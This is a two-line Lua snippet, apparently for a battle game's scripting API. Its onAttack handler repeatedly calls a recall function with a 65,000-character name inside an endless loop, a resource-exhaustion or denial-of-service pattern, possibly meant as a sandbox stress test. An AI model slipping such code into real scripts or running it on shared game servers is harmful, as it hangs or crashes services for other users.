-- Recalls giant names.
function onAttack(a) local s = ("k"):rep(65000) while true do battle:recall(s) end end
